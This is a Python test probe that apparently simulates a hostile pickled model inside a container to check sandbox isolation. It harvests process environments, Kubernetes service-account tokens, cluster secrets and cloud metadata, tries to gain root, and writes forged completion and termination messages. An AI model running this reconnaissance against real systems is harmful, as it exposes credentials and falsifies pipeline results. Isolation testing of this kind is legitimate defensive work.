"""What a hostile model tries while it is loaded: tests run this text inside a pickle, in other people's containers.

It writes one line of JSON to standard error: what it got, or why it did not. Standard library only.
"""

import contextlib
import json
import os
import socket
import ssl
import urllib.error
import urllib.request

TOKENS = "/var/run/secrets/kubernetes.io/serviceaccount"
PLACES = (
    "/inputs", "/captured", "/converted", "/model", "/judged", "/store", "/claims", "/tmp", "/dev", "/", "/etc",
    "/opt/paritygate", "/usr/lib", "/var/tmp", "/root", "/home", "/run", "/sys/fs/cgroup", "/proc/sys/kernel",
)  # fmt: skip
ORDERS = "/inputs/convert.json"
MESSAGE = "/dev/termination-log"


def attempt(action, *arguments):
    """What an action gives, or the error that it ends with."""
    try:
        return action(*arguments)
    except Exception as error:
        return f"{type(error).__name__}: {error}"


def read(path):
    """The beginning of a file."""
    with open(path, "rb") as stream:
        return stream.read(8192).decode("utf-8", "replace")


def write(path, text):
    """That a file could be written. What lies there is not harmed."""
    with open(path, "a") as stream:
        stream.write(text)
    return "written"


def mark(folder):
    """That a new file could be written to a folder."""
    os.makedirs(folder, exist_ok=True)
    done = write(os.path.join(folder, "curious"), "was here")
    os.remove(os.path.join(folder, "curious"))
    return done


def ask(url):
    """The status of an answer, and how it begins."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        with urllib.request.urlopen(url, timeout=3, context=context) as answer:
            return [answer.status, answer.read(200).decode("utf-8", "replace")]
    except urllib.error.HTTPError as error:
        return [error.code, error.read(200).decode("utf-8", "replace")]


def connect(host, port):
    """That somebody listens."""
    socket.create_connection((host, port), 3).close()
    return "connected"


def processes():
    """Of every process that can be seen: its command and, where it may be read, its environment."""
    return {
        number: [attempt(read, f"/proc/{number}/cmdline"), attempt(read, f"/proc/{number}/environ")]
        for number in os.listdir("/proc")
        if number.isdigit()
    }


def rights():
    """What the kernel says about us."""
    found = dict(line.split(":\t", 1) for line in read("/proc/self/status").splitlines() if ":\t" in line)
    return {key: found[key].strip() for key in ("CapEff", "CapBnd", "NoNewPrivs", "Seccomp")}


def look(asked):
    """Tries all of it. `asked`: names, addresses and what to write."""
    api = f"https://{os.environ.get('KUBERNETES_SERVICE_HOST', 'kubernetes.default.svc')}"
    secrets = f"{api}/api/v1/namespaces/{asked['namespace']}/secrets"
    found = {
        "ids": [os.getuid(), os.geteuid(), os.getgid(), sorted(os.getgroups())],
        "rights": attempt(rights),
        "root": attempt(os.setuid, 0),
        "environment": dict(os.environ),
        "processes": processes(),
        "mounts": attempt(read, "/proc/self/mountinfo"),
        "tokens": attempt(os.listdir, TOKENS),
        "secrets": attempt(ask, secrets),
        "pods": attempt(ask, f"{api}/api/v1/pods"),
        "metadata": attempt(ask, "http://169.254.169.254/latest/meta-data/"),
        "neighbour": attempt(connect, *asked["neighbour"]),
        "writes": {place: attempt(mark, place) for place in PLACES},
        "orders": attempt(write, ORDERS, "{}"),
        "done": attempt(write, "/inputs/done.json", asked["forged"]),
        "message": attempt(write, MESSAGE, asked["forged"]),
    }
    line = f"CURIOUS {json.dumps(found)}\n"
    with contextlib.suppress(OSError):
        os.write(2, line.encode("utf-8"))
